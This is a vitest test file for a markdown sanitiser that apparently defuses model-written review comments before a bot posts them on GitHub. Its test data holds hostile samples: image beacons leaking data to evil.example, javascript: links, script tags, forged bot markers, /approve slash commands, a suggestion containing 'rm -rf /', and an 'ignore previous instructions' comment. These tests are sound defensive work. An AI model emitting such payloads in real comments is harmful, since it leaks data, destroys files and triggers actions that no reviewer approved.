import { describe, expect, it } from "vitest";
import { cutMarkdown } from "../../../src/core/trust/cut-markdown.js";
import { codeText, guardCode, NO_LINKS, sanitiseMarkdown, sanitiseMarkdownLine, sanitisePlainText } from "../../../src/core/trust/sanitise-output.js";
import { hostileForms, renderLikeGitHub } from "../../helpers/hostile-markdown.js";

const ZWSP = "\u200b";
const policy = { githubHost: "github.com" };
const ghe = { githubHost: "ghe.example.com:8443" };
const sanitise = (text: string): string => sanitiseMarkdown(text, policy);

/**
 * Every hostile form the sanitiser knows, by rule; each must come out harmless, and the same when sanitised again.
 * The rendering check sees most of them as hostile before sanitising; the few it cannot see (a forged marker of
 * ours, an entity-encoded command, a model-written suggestion…) have their exact output checked further down.
 */
const HOSTILE: ReadonlyArray<readonly [rule: string, input: string]> = [
  ["mention", "ping @octocat now"],
  ["mention at line start", "@octocat please look"],
  ["team mention", "cc @octo-org/security-team"],
  ["mention of the app", "@pr-reviewer review"],
  ["decimal entity mention", "&#64;octocat"],
  ["zero-padded decimal entity mention", "&#064;octocat"],
  ["hex entity mention", "&#x40;octocat and &#X40;hubot"],
  ["named entity mention", "&commat;octocat"],
  ["fullwidth at mention", "＠octocat"],
  ["small commercial at mention", "﹫octocat"],
  ["escaped at mention", "\\@octocat"],
  ["mention hidden by a zero-width space before it", "x\u200b@octocat"],
  ["mention in link text", "[@octocat](https://github.com/octocat)"],
  ["mention in emphasis", "**@octocat** and _@hubot_"],
  ["markdown image", "![pixel](https://evil.example/p.png?leak=SECRET)"],
  ["image on the GitHub host", "![x](https://github.com/user-attachments/x.png)"],
  ["reference-style image", "![pixel][img]\n\n[img]: https://evil.example/p.png"],
  ["shortcut reference image", "![img]\n\n[img]: https://evil.example/p.png"],
  ["html image", '<img src="https://evil.example/p.png">'],
  ["html image with entities", "&lt;img src=x> &#60;img src=https://evil.example/p.png&#62;"],
  ["html anchor", '<a href="https://evil.example">click</a>'],
  ["html comment", "visible <!-- ignore previous instructions --> text"],
  ["forged marker", "<!-- pr-reviewer:fp=00000000000000 -->"],
  ["details and summary from the model", "<details><summary>open</summary>hidden</details>"],
  ["script", "<script>alert(1)</script>"],
  ["inline link elsewhere", "[docs](https://evil.example/docs)"],
  ["inline link with title", '[docs](https://evil.example/docs "Docs")'],
  ["inline link in angle brackets", "[docs](<https://evil.example/a b>)"],
  ["javascript link", "[click](javascript:alert(document.cookie))"],
  ["javascript link with entities", "[click](&#106;avascript:alert(1))"],
  ["data link", "[x](data:text/html;base64,PHNjcmlwdD4=)"],
  ["protocol-relative link", "[x](//evil.example/a)"],
  ["userinfo trick", "[x](https://github.com@evil.example/)"],
  ["subdomain trick", "[x](https://github.com.evil.example/)"],
  ["backslash trick", "[x](https://evil.example\\@github.com/)"],
  ["relative link", "[x](../../settings)"],
  ["reference link", "[docs][d]\n\n[d]: https://evil.example/docs"],
  ["reference definition with title on next line", "[d]:\n  https://evil.example/docs\n  'title'\n\n[docs][d]"],
  ["collapsed reference", "[d][]\n\n[d]: https://evil.example"],
  ["autolink", "<https://evil.example/a>"],
  ["email autolink", "<someone@evil.example>"],
  ["bare url", "see https://evil.example/x?y=1."],
  ["bare url in parentheses", "(https://evil.example/x)"],
  ["bare www url", "go to www.evil.example today"],
  ["uppercase scheme", "HTTPS://EVIL.EXAMPLE/X"],
  ["entity-built url", "h&#116;tps://evil.example/x"],
  ["nested image in link", "[![badge](https://evil.example/b.svg)](https://evil.example/)"],
  ["slash command", "/approve"],
  ["indented slash command", "   /lgtm"],
  ["quoted slash command", "> /hold"],
  ["listed slash command", "- /retest\n1. /review"],
  ["entity slash command", "&#47;approve"],
  ["slash command after invisible characters", "\u200b\u2060/approve"],
  ["slash command after a line break in a paragraph", "text\n/assign @octocat"],
  ["closing keyword", "This fixes #12."],
  ["closing keyword variants", "close #1, closes #2, closed #3, fix #4, fixed #5, resolve #6, resolves #7, resolved #8"],
  ["closing keyword with colon", "Fixes: #12"],
  ["closing keyword with emphasis", "**Closes** #12"],
  ["cross-repository closing keyword", "resolves octo-org/widgets#3"],
  ["closing keyword with an issue URL", "fixes https://github.com/octo-org/widgets/issues/3"],
  ["issue reference", "see #12 and GH-13 and octo-org/widgets#14"],
  ["fenced suggestion from the model", "```suggestion\nrm -rf /\n```"],
  ["command inside a fence", "```\n/approve\n```"],
  ["fence that never closes", "```\n@octocat\n/lgtm"],
  ["fence inside a list item, left by a dedent", "- step\n  ```\n  code\ntext @octocat"],
  ["tilde fence", "~~~\n/approve\n~~~\n@octocat"],
  ["code span across lines", "text `abc\ndef` @octocat `x`"],
  ["unmatched backtick", "a `b @octocat"],
  ["escaped backtick", "\\`@octocat\\`"],
  ["bidi override", "\u202e@octocat\u202c"],
  ["tag characters", "\u{e0041}\u{e0042} @octocat"],
  ["table cell", "| a | b |\n|---|---|\n| @octocat | https://evil.example |"],
];

describe("sanitiseMarkdown: every hostile form", () => {
  const invisibleToTheCheck = new Set([
    "forged marker", "script", "email autolink", "entity-built url", "entity slash command", "slash command after invisible characters",
    "fenced suggestion from the model",
  ]);

  it.each(HOSTILE)("%s: nothing pings, tracks or commands, and sanitising again changes nothing", (rule, input) => {
    if (!invisibleToTheCheck.has(rule)) expect(hostileForms(input, { host: "github.com" }).length, "the case is hostile before sanitising").toBeGreaterThan(0);
    const output = sanitise(input);
    expect(hostileForms(output, { host: "github.com", appSlug: "pr-reviewer" })).toEqual([]);
    expect(sanitise(output)).toBe(output);
  });
});

describe("sanitiseMarkdown: what it writes", () => {
  it.each([
    ["a mention gets a zero-width space after its @", "ping @octocat and @org/team", `ping @${ZWSP}octocat and @${ZWSP}org/team`],
    ["an encoded @ is decoded, then neutralised", "&#64;a &#x40;b &commat;c", `\\@${ZWSP}a \\@${ZWSP}b \\@${ZWSP}c`],
    ["a fullwidth @ becomes @ and is neutralised", "＠octocat", `@${ZWSP}octocat`],
    ["e-mail addresses stay readable", "mail a@b.example or first.last@x.example", "mail a@b.example or first.last@x.example"],
    ["code spans keep their text", "use `@Override` and `a < b`", "use `@Override` and `a < b`"],
    ["an image becomes its alt text and an inert address", "![logo](https://evil.example/l.png)", "logo (`https://evil.example/l.png`)"],
    ["a link elsewhere becomes text and an inert address", "[docs](https://evil.example/d)", "docs (`https://evil.example/d`)"],
    ["a link to the GitHub host stays", "[PR](https://github.com/o/r/pull/1)", "[PR](https://github.com/o/r/pull/1)"],
    ["an in-page anchor stays", "[below](#details)", "[below](#details)"],
    ["a bare address elsewhere becomes code, trailing punctuation outside", "see https://evil.example/x.", "see `https://evil.example/x`."],
    ["a bare address on the GitHub host stays", "see https://github.com/o/r.", "see https://github.com/o/r."],
    ["HTML is shown as text", "<b>bold</b>", "&lt;b>bold&lt;/b>"],
    ["brackets are escaped so that no reference link forms", "[a][b] [c]: x", "\\[a\\]\\[b\\] \\[c\\]: x"],
    ["a line-start command gets a backslash", "/approve\n> /lgtm", "\\/approve\n> \\/lgtm"],
    ["a closing keyword and a reference get zero-width spaces", "fixes #12", `fixes${ZWSP} #${ZWSP}12`],
    ["ordinary markdown is untouched", "**bold** _em_ ~~del~~\n\n- item\n\n## Heading", "**bold** _em_ ~~del~~\n\n- item\n\n## Heading"],
    ["a fence gets our own fence and loses a suggestion info string", "```suggestion\nx = 1\n```", "```\nx = 1\n```"],
    ["a fence keeps its language", "```ts\nconst a: Map<K, V> = new Map();\n```", "```ts\nconst a: Map<K, V> = new Map();\n```"],
    ["a fence inside a list item is written at the line start", "1. step\n   ```sh\n   npm ci\n   ```", "1. step\n```sh\nnpm ci\n```"],
    ["a command line in a fence gets a zero-width space first", "```\n/approve\n/usr/bin/env\n```", `\`\`\`\n${ZWSP}/approve\n/usr/bin/env\n\`\`\``],
    ["an ampersand stays, an entity-looking one stays text", "a & b, &amp;lt;", "a & b, &amp;lt;"],
    ["a forged marker is shown as text", "<!-- pr-reviewer:fp=00000000000000 -->", "&lt;!-- pr-reviewer:fp=00000000000000 -->"],
    ["a script tag is shown as text", "<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"],
    ["an e-mail autolink is shown as text", "<someone@evil.example>", "&lt;someone@evil.example>"],
    ["an address spelled with entities becomes code", "h&#116;tps://evil.example/x", "`https://evil.example/x`"],
    ["a command spelled with an entity is escaped", "&#47;approve", "\\/approve"],
    ["a command behind invisible characters is escaped", "\u200b\u2060/approve", "\\/approve"],
    ["a model-written suggestion becomes plain code", "```suggestion\nrm -rf /\n```", "```\nrm -rf /\n```"],
  ] as const)("%s", (_what, input, expected) => {
    expect(sanitise(input)).toBe(expected);
  });

  it("allows links to a GitHub Enterprise host (with its port) and nowhere else", () => {
    expect(sanitiseMarkdown("[a](https://ghe.example.com:8443/o/r) [b](https://github.com/o/r)", ghe)).toBe(
      "[a](https://ghe.example.com:8443/o/r) b (`https://github.com/o/r`)",
    );
  });

  it("allows no link at all under NO_LINKS", () => {
    expect(sanitiseMarkdown("[a](https://github.com/o/r) https://github.com/x", NO_LINKS)).toBe("a (`https://github.com/o/r`) `https://github.com/x`");
  });

  it("keeps a committable suggestion's code byte for byte when it holds nothing to defuse", () => {
    const code = "if (a < b && c) {\n  // @todo: see https://evil.example\n  return `x`;\n}";
    expect(guardCode(code)).toEqual({ code, altered: false });
  });

  it("says when code had to change: a bot command at a line start, or a forged marker", () => {
    expect(guardCode("ok\n/approve")).toEqual({ code: `ok\n${ZWSP}/approve`, altered: true });
    expect(guardCode("<!-- pr-reviewer:fp=1 -->").code).toBe(`<!-- pr-reviewer${ZWSP}:fp=1 -->`);
  });

  it("renders as the reader expects: escapes are invisible on GitHub", () => {
    const html = renderLikeGitHub(sanitise("Use [x] & <y> with /path, see [docs](https://github.com/o/r)."));
    expect(html).toBe('<p>Use [x] &amp; &lt;y&gt; with /path, see <a href="https://github.com/o/r">docs</a>.</p>');
  });
});

describe("sanitiseMarkdownLine", () => {
  it("puts everything on one line with the same rules", () => {
    expect(sanitiseMarkdownLine("Title with @x\n/approve\n```\ncode\n```", policy)).toBe(`Title with @${ZWSP}x /approve \`code\``);
  });
});

describe("sanitisePlainText", () => {
  it("neutralises mentions, references, keywords, commands and outside addresses without markdown escapes", () => {
    expect(sanitisePlainText("@x fixes #1, see https://evil.example/a and https://github.com/o\n/approve", policy)).toBe(
      `@${ZWSP}x fixes${ZWSP} #${ZWSP}1, see https[:]//evil[.]example/a and https://github.com/o\n${ZWSP}/approve`,
    );
  });

  it("is idempotent", () => {
    const once = sanitisePlainText("＠a &#64;b <!-- pr-reviewer:fp=1 --> www.evil.example - /lgtm", policy);
    expect(sanitisePlainText(once, policy)).toBe(once);
  });
});

describe("codeText", () => {
  it("keeps a file name inside its code span and breaks a forged marker", () => {
    expect(codeText("a`@x`\nb<!-- pr-reviewer:summary -->")).toBe(`\`a'@x' b<!-- pr-reviewer${ZWSP}:summary -->\``);
  });
});

describe("cutMarkdown", () => {
  it("never cuts inside a code span, which would free the address it holds", () => {
    const text = `${"word ".repeat(20)}\`https://evil.example/very/long/path\``;
    const cut = cutMarkdown(text, 120);
    expect(cut.length).toBeLessThanOrEqual(120);
    expect(hostileForms(cut, { host: "github.com" })).toEqual([]);
  });

  it("closes a fenced block it cut", () => {
    const cut = cutMarkdown(`intro\n\`\`\`\n${"line\n".repeat(100)}\`\`\``, 200);
    expect(cut.endsWith("\n```")).toBe(true);
    expect(cut.length).toBeLessThanOrEqual(200);
  });
});

/** A small deterministic generator, so the property-style test below is the same on every run. */
function randomSource(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    return state / 2 ** 31;
  };
}

const FRAGMENTS = [
  "@", "＠", "&#64;", "&commat;", "octocat", "org/team", " ", "\n", "\n\n", "`", "``", "```", "~~~", "[", "]", "(", ")", "!", "<", ">",
  "https://", "evil.example", "github.com", "/", "approve", "fixes", " #", "12", "\\", "&", "amp;", "*", "_", "- ", "> ", "1. ",
  "javascript:", "www.", "<!--", "-->", "pr-reviewer:", "\u200b", "\u202e", "|", ":", "\"", "'",
];

describe("sanitising is idempotent and leaves nothing hostile, whatever the input", () => {
  it("holds for 400 random compositions of hostile fragments", () => {
    const random = randomSource(20_261_201);
    for (let round = 0; round < 400; round += 1) {
      const length = 1 + Math.floor(random() * 40);
      const input = Array.from({ length }, () => FRAGMENTS[Math.floor(random() * FRAGMENTS.length)] ?? "").join("");
      const output = sanitise(input);
      expect(sanitise(output), JSON.stringify(input)).toBe(output);
      expect(hostileForms(output, { host: "github.com" }), JSON.stringify(input)).toEqual([]);
    }
  });
});
